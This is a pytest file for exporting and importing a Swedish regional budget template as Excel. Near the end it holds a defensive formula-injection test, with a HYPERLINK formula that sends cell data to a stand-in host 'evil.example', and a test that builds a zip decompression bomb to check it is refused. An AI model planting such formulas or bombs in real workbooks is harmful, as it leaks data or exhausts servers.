"""The budget template as Excel: what export_budget writes and what import_budget reads back."""

from __future__ import annotations

import datetime as dt
import io
import json
import re
import zipfile
from pathlib import Path
from typing import Any

import msgspec
import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from applications.budget import (
    Budget,
    BudgetBlock,
    BudgetLine,
    CostCategory,
    CostGroup,
    TotalsSource,
    WarningCode,
    check_budget,
)
from applications.budget_xlsx import (
    DETAILED_SHEET,
    KRONOR_FORMAT,
    SUMMARY_SHEET,
    ImportResult,
    ImportWarning,
    export_budget,
    import_budget,
)

SEED = Path(__file__).parents[2] / "portfolio" / "demo" / "seed002.json"
A, C = BudgetBlock.ASSOCIATION, BudgetBlock.COFUNDING
D = dt.date


def seed_budget(insats_name: str) -> Budget:
    """A real budget of seed 002 as the demo data keeps it (its lines, years and owners)."""
    applications = json.loads(SEED.read_text(encoding="utf-8"))["applications"]
    app = next(app for app in applications if app["insats_name"] == insats_name)
    budget = app["budget"]
    return msgspec.convert(
        {
            "owners": budget["owners"],
            "lines": budget["lines"],
            "years": budget["years"],
            "period_from": app["period_start"],
            "period_to": app["period_end"],
        },
        Budget,
    )


def imported(data: bytes) -> tuple[Budget, list[ImportWarning]]:
    result = import_budget(data)
    assert result.budget is not None, result.warnings
    return result.budget, result.warnings


def without_row_totals(lines: list[BudgetLine]) -> list[BudgetLine]:
    # The exported all-owners cell of a line is a formula, so it reads back as the row's sum.
    return [msgspec.structs.replace(line, stated_total=None) for line in lines]


def row_of(sheet: Worksheet, label: str, start: int = 1) -> int:
    """The first row at or after `start` whose column A reads `label`."""
    for row in range(start, sheet.max_row + 1):
        if sheet.cell(row, 1).value == label:
            return row
    raise AssertionError(f"no row {label!r}")


def saved(workbook: Workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def with_cached_value(data: bytes, formula: str, value: int) -> bytes:
    """The workbook as if Excel had saved `formula` with the value `value` (openpyxl cannot)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename.startswith("xl/worksheets/"):
                pattern = f"<f>{re.escape(formula)}</f><v\\s*/?>(</v>)?"
                xml = re.sub(pattern, f"<f>{formula}</f><v>{value}</v>", content.decode())
                content = xml.encode()
            target.writestr(item, content)
    return buffer.getvalue()


# --- export -------------------------------------------------------------------------------------


def test_export_writes_the_detailed_budget_and_the_summary_in_the_template_layout() -> None:
    """Title with the insats name, the header row, owners by name, then the two blocks."""
    workbook = load_workbook(
        io.BytesIO(export_budget(seed_budget("Framsteget 2.0"), "Framsteget 2.0"))
    )
    assert workbook.sheetnames == [DETAILED_SHEET, SUMMARY_SHEET]
    sheet = workbook[DETAILED_SHEET]
    assert sheet["A1"].value == "Budget - detaljerad Framsteget 2.0"
    assert [cell.value for cell in sheet[5]] == [
        "Kostnadsslag",
        "Tjänst %",
        "Period från",
        "Period till",
        "Håbo kommun",
        "Arbetsförmedlingen",
        "Försäkringskassan",
        "Region Uppsala",
        None,  # the template's fourth co-owner column, unused here
        "Alla insatsägare",
    ]
    assert [cell.value for cell in sheet[4]][4:9] == [
        "Huvudinsatsägare",
        "Delinsatsägare 1",
        "Delinsatsägare 2",
        "Delinsatsägare 3",
        "Delinsatsägare 4",
    ]
    labels = [sheet.cell(row, 1).value for row in range(6, sheet.max_row + 1)]
    assert labels.index("Att rekvirera från Samordningsförbundet") < labels.index(
        "Egenfinansiering"
    )
    for heading in ("Lönekostnader", "Lokalkostnader", "Övriga kostnader"):
        assert labels.count(heading) == 2  # once in each block
    other = labels.index("Övriga kostnader")
    assert labels[other + 1 : other + 11] == [
        "Utvärdering",
        "Spridningsseminarier",
        "Utbildning insatsmedarbetare",
        "Inköpta utredningar, utbildningar och tjänster avsedda för deltagare",
        "Övriga aktiviteter för deltagare",
        "Telefon-, IT-kostnader",
        "Resor",
        "Tolk",
        "Informationsmaterial",
        "Övrigt",
    ]


def test_export_writes_kronor_as_grouped_integers_dates_as_dates_and_percent_as_percent() -> None:
    """Amounts are whole kronor shown with digit grouping; periods are real Excel dates."""
    sheet = load_workbook(
        io.BytesIO(export_budget(seed_budget("Framsteget 2.0"), "Framsteget 2.0"))
    )[DETAILED_SHEET]
    row = row_of(sheet, "Rehabcoach")
    assert (sheet[f"E{row}"].value, sheet[f"E{row}"].number_format) == (630_000, KRONOR_FORMAT)
    assert sheet[f"C{row}"].value == dt.datetime(2022, 1, 1)
    assert sheet[f"C{row}"].is_date
    assert (sheet[f"B{row}"].value, sheet[f"B{row}"].number_format) == (0.3, "0%")


def test_export_writes_every_sum_as_a_formula_for_excel_to_recalculate() -> None:
    """Row, heading, block and grand totals are SUM formulas over the cells above them."""
    workbook = load_workbook(
        io.BytesIO(export_budget(seed_budget("Framsteget 2.0"), "Framsteget 2.0"))
    )
    sheet = workbook[DETAILED_SHEET]
    first = row_of(sheet, "Insatsansvarig/rehabcoach")
    salaries = row_of(sheet, "Summa lönekostnader")
    assert sheet[f"J{first}"].value == f"=SUM(E{first}:I{first})"
    assert sheet[f"E{salaries}"].value == f"=SUM(E{first}:E{salaries - 1})"
    assert sheet[f"B{salaries}"].value == f"=SUM(B{first}:B{salaries - 1})"
    block = row_of(sheet, "Totalt från Samordningsförbundet")
    assert sheet[f"E{block}"].value.startswith(f"=E{salaries}+")
    grand = row_of(sheet, "Total kostnad för insatsen")
    assert sheet[f"J{grand}"].value == f"=SUM(E{grand}:I{grand})"
    summary = workbook[SUMMARY_SHEET]
    assert summary["C6"].value == f"='{DETAILED_SHEET}'!E{block}"


def test_export_summary_lists_years_with_their_figures_and_a_total_formula() -> None:
    """ÅR 1–3 with 2022–2024, salaries, premises and other costs; the total as a SUM."""
    summary = load_workbook(
        io.BytesIO(export_budget(seed_budget("Framsteget 2.0"), "Framsteget 2.0"))
    )[SUMMARY_SHEET]
    header = next(row for row in range(1, 40) if summary.cell(row, 2).value == "ÅR 1")
    assert [summary.cell(header, col).value for col in (2, 3, 4)] == ["ÅR 1", "ÅR 2", "ÅR 3"]
    assert [summary.cell(header + 1, col).value for col in (2, 3, 4)] == [2022, 2023, 2024]
    assert [summary.cell(header + 2, col).value for col in (2, 3, 4)] == [
        3_325_000,
        2_665_000,
        2_550_000,
    ]
    total = row_of(summary, "Totalt", header)
    assert summary.cell(total, 2).value == f"=SUM(B{header + 2}:B{header + 4})"


# --- round trip ---------------------------------------------------------------------------------


@pytest.mark.parametrize("insats_name", ["Framsteget 2.0", "Arbetslivsintro"])
def test_exported_seed_budget_reads_back_with_the_same_lines_owners_and_years(
    insats_name: str,
) -> None:
    """Owners, every line (block, category, label, tjänst %, period, amounts) and years survive."""
    budget = seed_budget(insats_name)
    back, _ = imported(export_budget(budget, insats_name))
    assert back.owners == budget.owners
    assert without_row_totals(back.lines) == budget.lines
    assert back.years == budget.years
    assert [year.label for year in back.years] == [year.label for year in budget.years]
    assert (back.period_from, back.period_to) == (budget.period_from, budget.period_to)


def test_exported_formulas_read_back_as_the_sums_of_the_lines_with_a_note_per_sheet() -> None:
    """A file never opened in Excel has no saved sums: they are worked out and said so, once."""
    budget = seed_budget("Framsteget 2.0")
    back, warnings = imported(export_budget(budget, "Framsteget 2.0"))
    detailed, summary = back.stated
    assert detailed.source is TotalsSource.DETAILED
    salaries = detailed.association.groups[CostGroup.SALARIES]
    assert (salaries.amounts, salaries.total) == ([8_190_000, 350_000, 0, 0], 8_540_000)
    assert detailed.association.fte_percent == 455
    assert detailed.grand is not None and detailed.grand.total == 9_357_500
    assert summary.source is TotalsSource.SUMMARY
    assert summary.association.total is not None
    assert summary.association.total.amounts == [9_007_500, 350_000, 0, 0]
    assert [line.stated_total for line in back.lines] == [sum(x.amounts) for x in back.lines]
    assert [(w.sheet, w.cell) for w in warnings] == [(DETAILED_SHEET, "J8"), (SUMMARY_SHEET, "C6")]
    assert "inte har räknats om och sparats i Excel" in warnings[0].message
    assert check_budget(back) == []


def test_line_without_a_label_of_its_own_comes_back_labelled_with_its_category() -> None:
    """The sheet shows the category's name on such a row, and that is what is read back."""
    budget = Budget(
        owners=["Enköpings kommun"],
        lines=[
            BudgetLine(block=A, category=CostCategory.TRAVEL, amounts=[12_000]),
            BudgetLine(block=C, category=CostCategory.OTHER, label="Handledning", amounts=[5_000]),
        ],
    )
    back, _ = imported(export_budget(budget, "Jobbcentrum"))
    assert [(line.block, line.category, line.label) for line in back.lines] == [
        (A, CostCategory.TRAVEL, "Resor"),
        (C, CostCategory.OTHER, "Handledning"),
    ]


# --- the seed's real mistake --------------------------------------------------------------------


def test_framsteget_as_the_applicant_typed_it_reports_the_seeds_mismatch() -> None:
    """Typed sums of 9 007 500 against lines of 9 357 500: kept as typed and pointed out."""
    workbook = load_workbook(
        io.BytesIO(export_budget(seed_budget("Framsteget 2.0"), "Framsteget 2.0"))
    )
    sheet = workbook[DETAILED_SHEET]
    # As in the board pack: Arbetsförmedlingen's row has no all-owners figure, and the sums of
    # that column are typed from the other rows only.
    sheet[f"J{row_of(sheet, 'Arbetsförmedlare')}"] = None
    sheet[f"J{row_of(sheet, 'Summa lönekostnader')}"] = 8_190_000
    sheet[f"J{row_of(sheet, 'Totalt från Samordningsförbundet')}"] = "9 007 500"
    sheet[f"J{row_of(sheet, 'Total kostnad för insatsen')}"] = "9 007 500 kr"

    budget, _ = imported(saved(workbook))

    warnings = check_budget(budget)
    assert [w.code for w in warnings] == [
        WarningCode.GROUP_TOTAL_MISMATCH,
        WarningCode.BLOCK_TOTAL_MISMATCH,
        WarningCode.GRAND_TOTAL_MISMATCH,
    ]
    assert all(w.source is TotalsSource.DETAILED and w.owner_index is None for w in warnings)
    assert [(w.stated, w.computed) for w in warnings[1:]] == [(9_007_500, 9_357_500)] * 2
    assert budget.stated[0].association.total is not None
    assert budget.stated[0].association.total.total == 9_007_500
    assert without_row_totals(budget.lines) == seed_budget("Framsteget 2.0").lines


def test_a_sum_excel_saved_is_read_as_stated_even_when_the_lines_disagree() -> None:
    """Excel's saved value is the stated figure; the lines are not used to overwrite it."""
    data = export_budget(seed_budget("Framsteget 2.0"), "Framsteget 2.0")
    sheet = load_workbook(io.BytesIO(data))[DETAILED_SHEET]
    salaries = row_of(sheet, "Summa lönekostnader")
    data = with_cached_value(data, f"SUM(E8:E{salaries - 1})", 8_000_000)

    budget, _ = imported(data)

    stated = budget.stated[0].association.groups[CostGroup.SALARIES]
    assert stated.amounts[0] == 8_000_000
    # The block and grand totals add up that saved figure, as Excel would show them too.
    warnings = [
        w for w in check_budget(budget) if w.owner_index == 0 and w.source is TotalsSource.DETAILED
    ]
    assert [(w.code, w.stated, w.computed) for w in warnings] == [
        (WarningCode.GROUP_TOTAL_MISMATCH, 8_000_000, 8_190_000),
        (WarningCode.BLOCK_TOTAL_MISMATCH, 8_817_500, 9_007_500),
        (WarningCode.GRAND_TOTAL_MISMATCH, 8_817_500, 9_007_500),
    ]


# --- a workbook filled by hand ------------------------------------------------------------------


def hand_made_workbook() -> bytes:
    """A budget typed in Excel by someone who did not keep to the letter of the template."""
    workbook = Workbook()
    sheet = workbook.active
    assert isinstance(sheet, Worksheet)
    sheet.title = "Budget"
    # Rows as a person typed them, from A1 on: the row numbers matter to the warnings tested.
    # fmt: off
    rows: list[list[Any]] = [
        ["Budget - detaljerad Jobbcentrum"],
        ["Insatsens löptid:", "2022-01-01 – 2023-12-31"],
        [],
        ["Kostnader i kronor", None, None, None, "Huvudinsatsägare", "Delinsatsägare", "Delins."],
        ["", "tjänst i %", "från", "till", "Enköpings kommun", "Region Uppsala", "NAMN", "ATT REKVIRERA - ALLA INSATSÄGARE"],
        ["Kostnader att rekvirera från Samordningsförbundet"],
        ["Lönekostnader inkl PO-pålägg"],
        ["Projektledare", "100%", "220101", "31/12-2023", "1 200 000 kr", None, None, "=SUM(E8:G8)"],  # 8
        [],
        ["  Arbetskonsulent ", "50", "1/4-2022", D(2023, 12, 31), None, "450 000,00"],
        ["Summa lönekostnader", "150 %", None, None, "=SUM(E8:E10)", "=SUM(F8:F10)", None, "1 650 000"],
        [],
        ["LOKALKOSTNADER"],
        [" lokal  HYRA ", None, None, None, 120_000],
        ["Summa lokalkostnader", None, None, None, 120_000, None, None, 120_000],
        ["Övriga kostnader"],
        ["Utvärdring", None, None, None, "50 000"],  # 17
        ["Konsultarvode", None, None, None, "30 000"],
        ["Resor", None, None, None, "12 500 kr"],
        ["Informationsmaterial", None, None, None, "ca 5 000"],  # 20
        [],
        ["Summa övriga kostnader", None, None, None, "92 500", None, None, "92 500"],
        ["Totalt från Samordningsförbundet", None, None, None, None, None, None, "1 862 500"],
    ]
    # fmt: on
    for row in rows:
        sheet.append(row)
    years = workbook.create_sheet("Sammanställning")
    year_rows: list[list[Any]] = [
        [None, "ÅR 1", "ÅR 2"],
        [None, 2022, 2023],
        ["LÖNEKOSTNADER"],
        ["inkl P.O tillägg", 900_000, "750 000"],
        ["LOKALKOSTNADER"],
        ["Lokalkostnader", 60_000, 60_000],
        ["Övriga lokalkostnader"],
        ["ÖVRIGA KOSTNADER", 30_000, "32 500"],
        ["TOTALT", 990_000, 842_500],
    ]
    for row in year_rows:
        years.append(row)
    return saved(workbook)


def test_hand_made_workbook_reads_lines_typed_in_many_ways() -> None:
    """Text amounts with spaces, "kr" and decimal comma; dates as ååmmdd or d/m-yyyy; 100%."""
    budget, _ = imported(hand_made_workbook())
    assert budget.owners == ["Enköpings kommun", "Region Uppsala"]
    assert (budget.period_from, budget.period_to) == (D(2022, 1, 1), D(2023, 12, 31))
    assert budget.lines == [
        BudgetLine(block=A, category=CostCategory.SALARY, label="Projektledare", fte_percent=100,
                   period_from=D(2022, 1, 1), period_to=D(2023, 12, 31), amounts=[1_200_000, 0],
                   stated_total=1_200_000),
        BudgetLine(block=A, category=CostCategory.SALARY, label="Arbetskonsulent", fte_percent=50,
                   period_from=D(2022, 4, 1), period_to=D(2023, 12, 31), amounts=[0, 450_000]),
        BudgetLine(block=A, category=CostCategory.PREMISES_RENT, label="Lokalhyra",
                   amounts=[120_000, 0]),
        BudgetLine(block=A, category=CostCategory.EVALUATION, label="Utvärdering",
                   amounts=[50_000, 0]),
        BudgetLine(block=A, category=CostCategory.TRAVEL, label="Resor", amounts=[12_500, 0]),
        BudgetLine(block=A, category=CostCategory.INFORMATION_MATERIAL,
                   label="Informationsmaterial", amounts=[0, 0]),
    ]  # fmt: skip


def test_hand_made_workbook_warns_about_each_doubtful_cell_by_name() -> None:
    """A misspelt label, a row that fits nowhere, an unreadable amount, an uncalculated formula."""
    _, warnings = imported(hand_made_workbook())
    by_cell = {(w.sheet, w.cell): w.message for w in warnings}
    assert set(by_cell) == {
        ("Budget", "A17"),
        ("Budget", "A18"),
        ("Budget", "E20"),
        ("Budget", "H8"),
    }
    assert by_cell["Budget", "A17"] == "Raden ”Utvärdring” är inläst som ”Utvärdering”."
    assert by_cell["Budget", "A18"].startswith(
        "Raden ”Konsultarvode” (30\u00a0000 kronor) passar inte in i budgetmallen och är inte inläst"
    )
    assert by_cell["Budget", "E20"].startswith("”ca 5 000” kunde inte läsas som ett belopp")
    assert "3 formler saknar sparat värde (H8, E11, F11)" in by_cell["Budget", "H8"]


def test_hand_made_workbook_keeps_typed_and_formula_sums_as_stated() -> None:
    """Typed sums stay as typed; an uncalculated formula is worked out from the rows above it."""
    budget, _ = imported(hand_made_workbook())
    [detailed] = budget.stated
    salaries = detailed.association.groups[CostGroup.SALARIES]
    assert (salaries.amounts, salaries.total) == ([1_200_000, 450_000], 1_650_000)
    assert detailed.association.fte_percent == 150
    other = detailed.association.groups[CostGroup.OTHER]
    assert (other.amounts, other.total) == ([92_500, None], 92_500)
    assert detailed.association.total is not None
    assert detailed.association.total.total == 1_862_500


def test_hand_made_workbook_sums_show_the_money_of_the_row_that_did_not_fit() -> None:
    """The 30 000 left out is still in the typed sums, so check_budget points at the gap."""
    budget, _ = imported(hand_made_workbook())
    assert [(w.code, w.group, w.owner_index, w.difference) for w in check_budget(budget)] == [
        (WarningCode.GROUP_TOTAL_MISMATCH, CostGroup.OTHER, 0, 30_000),
        (WarningCode.GROUP_TOTAL_MISMATCH, CostGroup.OTHER, None, 30_000),
        (WarningCode.BLOCK_TOTAL_MISMATCH, None, None, 30_000),
    ]


def test_hand_made_per_year_summary_is_read_from_its_own_sheet() -> None:
    """ÅR 1 and ÅR 2 with their years; the two premises rows are summed; headings skipped."""
    budget, _ = imported(hand_made_workbook())
    assert [(y.label, y.year, y.salaries, y.premises, y.other, y.total) for y in budget.years] == [
        ("ÅR 1", 2022, 900_000, 60_000, 30_000, 990_000),
        ("ÅR 2", 2023, 750_000, 60_000, 32_500, 842_500),
    ]


def board_pack_template() -> bytes:
    """Arbetslivsintro in the association's own template, cell by cell as the board pack shows it."""
    workbook = Workbook()
    sheet = workbook.active
    assert isinstance(sheet, Worksheet)
    sheet.title = "Budget - detaljerad"
    owners = ["Uppsala kommun", "Region Uppsala", "NAMN", "NAMN"]
    # fmt: off
    rows: list[list[Any]] = [
        ["Budget - detaljerad <Insatsens namn>"],
        ["Insatsens löptid:", D(2022, 1, 1), D(2023, 10, 31)],
        ["Fyll i färgmarkerade fält:"],
        ["Kostnader att rekvirera från Samordningsförbundet"],
        ["Kostnader i tkr", None, None, None, "Huvudinsatsägare", "Delinsatsägare", "Delinsatsägare", "Delinsatsägare"],
        [None, None, None, None, *owners, "ATT REKVIRERA - ALLA INSATSÄGARE"],
        ["Lönekostnader", "tjänst i %", "tidsperiod (ååmmdd)"],
        ["inkl PO.pålägg", None, "från", "till"],
        ["Socialsekreterare/ projektledare", "100%", "1/1-2022", "31/10-2023", "1 232 000", None, None, None, "1 232 000"],
        ["Socialsekreterare", "100%", "1/4-2022", "30/9-2023", "1 008 000", None, None, None, "1 008 000"],
        ["Resurs för upphandling", "50%", "1/4-2022", "30/9- 2023", "504 000", None, None, None, "504 000"],
        ["Arbetsterapeut", "50%", "1/4-2022", "30/9-2023", "504 000", None, None, None, "504 000"],
        ["Rehabiliteringskoordinator", "100%", "1/1-2022", "31/10-2023", None, "1 134 000", None, None, "1 134 000"],
        ["Summa lönekostnader", "400%", None, None, "3 248 000", "1 134 000", 0, 0, "4 382 000"],
        ["Lokalkostnader"],
        ["Lokalhyra", None, None, None, None, None, None, None, 0],
        [None, None, None, None, None, None, None, None, 0],
        ["Övriga lokalkostnader", None, None, None, None, None, None, None, 0],
        ["Summa lokalkostnader", None, None, None, 0, 0, 0, 0, 0],
        ["Övriga kostnader"],
        ["Utvärdering", None, None, None, None, None, None, None, 0],
        ["Spridningsseminarier", None, None, None, None, None, None, None, 0],
        ["Utbildning insatsmedarbetare", None, None, None, None, None, None, None, 0],
        ["Inköpta utredningar, utbildningar och \ntjänster avsedda för deltagare", None, "1/4-2022", "30/9-2023", "1 500 000", None, None, None, "1 500 000"],
        ["Övriga aktiviteter för deltagare", None, None, None, None, None, None, None, 0],
        ["Telefon-, IT-kostnader", None, None, None, None, None, None, None, 0],
        ["Resor", None, None, None, None, None, None, None, 0],
        ["Tolk", None, None, None, None, None, None, None, 0],
        ["Informationsmaterial", None, None, None, None, None, None, None, 0],
        [None, None, None, None, None, None, None, None, 0],
        ["Övrigt", None, "1/1-2022", "31/10-2023", "150 000", None, None, None, "150 000"],
        [None, None, None, None, None, None, None, None, 0],
        ["Summa övriga kostnader", None, None, None, "1 650 000", 0, 0, 0, "1 650 000"],
        ["Totalt från Samordningsförbundet", None, None, None, "4 898 000", "1 134 000", 0, 0, "6 032 000"],
        ["Egenfinansiering", None, None, None, *owners],
        ["Lönekostnader inkl po-pål", "tjänst i %"],
        ["Socialsekreterare", "100%", None, None, None, None, None, None, 0],
        ["Socialsekreterare", "100%", None, None, None, None, None, None, 0],
        ["3.", "0%", None, None, None, None, None, None, 0],
        ["4.", "0%", None, None, None, None, None, None, 0],
        ["5.", "0%", None, None, None, None, None, None, 0],
        ["Summa lönekostnader", "200%", None, None, 0, 0, 0, 0, 0],
        ["Lokalkostnader"],
        ["Lokalhyra", None, None, None, None, None, None, None, 0],
        ["Övriga lokalkostnader", None, None, None, None, None, None, None, 0],
        ["Summa lokalkostnader", None, None, None, 0, 0, 0, 0, 0],
        ["Övriga kostnader"],
        *[["Kostnadsbeteckning", None, None, None, None, None, None, None, 0]] * 4,
        ["Summa övriga kostnader", None, None, None, 0, 0, 0, 0, 0],
        ["Summa egenfinansiering", None, None, None, 0, 0, 0, 0, 0],
        ["Total kostnad för insatsen", None, None, None, "4 898 000", "1 134 000", 0, 0, "6 032 000"],
        [],
        [None, "ÅR 1", "ÅR 2"],
        [None, 2022, 2023],
        ["LÖNEKOSTNADER"],
        ["inkl P.O tillägg", "2 275 350", "2 106 650"],
        ["LOKALKOSTNADER"],
        ["Lokalkostnader"],
        ["Övriga lokalkostnader"],
        ["ÖVRIGA KOSTNADER", "1 100 000", "550 000"],
        ["TOTALT", "3 375 350", "2 656 650"],
    ]
    # fmt: on
    for row in rows:
        sheet.append(row)
    return saved(workbook)


def test_the_associations_own_template_as_filled_in_the_board_pack_reads_as_the_seed() -> None:
    """Headings over two rows, "NAMN" columns, "3. 0%" rows, ÅR table below: the seed's lines."""
    budget, warnings = imported(board_pack_template())
    seed = seed_budget("Arbetslivsintro")
    assert warnings == []
    assert budget.owners == seed.owners
    assert without_row_totals(budget.lines) == seed.lines
    assert (budget.period_from, budget.period_to) == (seed.period_from, seed.period_to)
    assert [(y.label, y.year, y.salaries, y.premises, y.other, y.total) for y in budget.years] == [
        ("ÅR 1", 2022, 2_275_350, None, 1_100_000, 3_375_350),
        ("ÅR 2", 2023, 2_106_650, None, 550_000, 2_656_650),
    ]
    [stated] = budget.stated
    assert stated.association.fte_percent == 400
    assert stated.cofunding.fte_percent == 200
    assert stated.grand is not None and stated.grand.amounts == [4_898_000, 1_134_000]
    # Its sums agree; only the two co-funded posts without money are worth a word.
    assert [w.code for w in check_budget(budget)] == [WarningCode.FTE_WITHOUT_AMOUNT] * 2


@pytest.mark.parametrize(
    ("typed", "kronor"),
    [
        (1_200_000, 1_200_000),
        (1_200_000.0, 1_200_000),
        ("1 200 000", 1_200_000),
        ("1\u00a0200\u00a0000", 1_200_000),
        ("1 200 000 kr", 1_200_000),
        ("1 200 000 kronor", 1_200_000),
        ("1 200 000:-", 1_200_000),
        ("1200000,00", 1_200_000),
        ("1.200.000", 1_200_000),
        ("1,200,000", 1_200_000),
        ("1 200 tkr", 1_200_000),
        ("-", 0),
        ("−5 000", -5_000),
    ],
)
def test_amounts_typed_as_numbers_or_text_are_read_as_whole_kronor(
    typed: object, kronor: int
) -> None:
    """Spaces, no-break spaces, "kr", ":-", decimal comma, dots or commas grouping, tkr."""
    workbook = Workbook()
    sheet = workbook.active
    assert isinstance(sheet, Worksheet)
    sheet.append(["Kostnadsslag", "Tjänst %", "Period från", "Period till", "Kommunen",
                  "Alla insatsägare"])  # fmt: skip
    sheet.append(["Övriga kostnader"])
    sheet.append(["Övrigt", None, None, None, typed])
    budget, warnings = imported(saved(workbook))
    assert [line.amounts for line in budget.lines] == [[kronor]]
    assert warnings == []


def test_amount_with_oren_is_rounded_to_whole_kronor_and_said_so() -> None:
    """1 234,50 kr becomes 1 235 kronor, with a warning naming the cell."""
    workbook = Workbook()
    sheet = workbook.active
    assert isinstance(sheet, Worksheet)
    sheet.append(["Kostnadsslag", "Tjänst %", "Period från", "Period till", "Kommunen",
                  "Alla insatsägare"])  # fmt: skip
    sheet.append(["Övriga kostnader"])
    sheet.append(["Resor", None, None, None, "1 234,50 kr"])
    budget, warnings = imported(saved(workbook))
    assert budget.lines[0].amounts == [1_235]
    assert [(w.cell, w.message) for w in warnings] == [
        ("E3", "Beloppet 1 234,50 kr är avrundat till hela kronor: 1\u00a0235 kronor.")
    ]


# --- not a budget -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (
            b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj",
            "kunde inte läsas som en Excel-arbetsbok",
        ),
        (b"Kostnadsslag;Kommunen\nResor;12000\n", "kunde inte läsas som en Excel-arbetsbok"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100), "äldre Excel-formatet .xls"),
        (b"", "Filen är tom"),
    ],
)
def test_upload_that_is_not_an_xlsx_gives_no_budget_and_one_clear_swedish_warning(
    data: bytes, says: str
) -> None:
    """A PDF, a CSV, an old .xls or an empty file: never an exception, one message to act on."""
    result = import_budget(data)
    assert isinstance(result, ImportResult)
    assert result.budget is None
    [warning] = result.warnings
    assert (warning.sheet, warning.cell) == ("", "")
    assert says in warning.message
    assert ".xlsx" in warning.message or "Filen är tom" in warning.message


def test_zip_that_is_no_workbook_and_an_ods_file_are_refused_with_a_hint() -> None:
    """A zip of something else is not read; an OpenDocument sheet is told to be saved as .xlsx."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "hej")
    assert "Excel-arbetsbok" in import_budget(buffer.getvalue()).warnings[0].message
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
    result = import_budget(buffer.getvalue())
    assert result.budget is None
    assert ".ods" in result.warnings[0].message


def test_workbook_without_the_template_gives_no_budget_and_says_what_is_missing() -> None:
    """An .xlsx with other content: no budget, and a pointer to the template's header row."""
    workbook = Workbook()
    sheet = workbook.active
    assert isinstance(sheet, Worksheet)
    sheet.append(["Deltagare", "Antal"])
    result = import_budget(saved(workbook))
    assert result.budget is None
    assert [w.message for w in result.warnings] == [
        "Arbetsboken ser inte ut som budgetmallen: ingen rad med kolumnrubriken "
        "”Alla insatsägare” hittades. Använd mallen ”Budget - detaljerad” från ansökan."
    ]


def test_text_that_looks_like_a_formula_is_written_as_text() -> None:
    """An owner's label or owner name starting with "=" must not become a live formula in the
    workbook the office opens; it is text, and it comes back exactly as typed."""
    evil = '=HYPERLINK("http://evil.example/?d="&B3,"Öppna")'
    budget = Budget(
        owners=["=1+1", "Region Uppsala"],
        lines=[
            BudgetLine(
                block=A,
                category=CostCategory.SALARY,
                label=evil,
                fte_percent=100,
                amounts=[100_000, 0],
            ),
        ],
    )
    workbook = load_workbook(io.BytesIO(export_budget(budget, "Insatsen")))
    texts = {
        cell.value: cell.data_type
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value in (evil, "=1+1")
    }
    assert texts == {evil: "s", "=1+1": "s"}
    formulas = [
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas and all(not f.startswith("=HYPERLINK") and f != "=1+1" for f in formulas)
    back, _ = imported(export_budget(budget, "Insatsen"))
    assert back.lines[0].label == evil and back.owners[0] == "=1+1"


def test_a_workbook_that_unpacks_to_far_more_than_a_budget_is_refused_unread() -> None:
    """A 60 KB upload that unpacks to some 9 MB of sheet would cost openpyxl seconds and
    hundreds of megabytes; it is refused from the zip's directory alone, with a clear reason."""
    plain = io.BytesIO()
    Workbook().save(plain)
    source = zipfile.ZipFile(io.BytesIO(plain.getvalue()))
    row = "<row>" + '<c t="n"><v>1</v></c>' * 20 + "</row>"
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as bomb:
        for item in source.infolist():
            if item.filename == "xl/worksheets/sheet1.xml":
                bomb.writestr(
                    item.filename,
                    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                    f"<sheetData>{row * 20_000}</sheetData></worksheet>",
                )
            else:
                bomb.writestr(item, source.read(item.filename))
    assert len(packed.getvalue()) < 200_000
    result = import_budget(packed.getvalue())
    assert result.budget is None
    assert "för stor för en budget" in result.warnings[0].message
    # The real template is far below the limit.
    template = export_budget(seed_budget("Framsteget 2.0"), "Framsteget 2.0")
    unpacked = sum(i.file_size for i in zipfile.ZipFile(io.BytesIO(template)).infolist())
    assert unpacked < 200_000
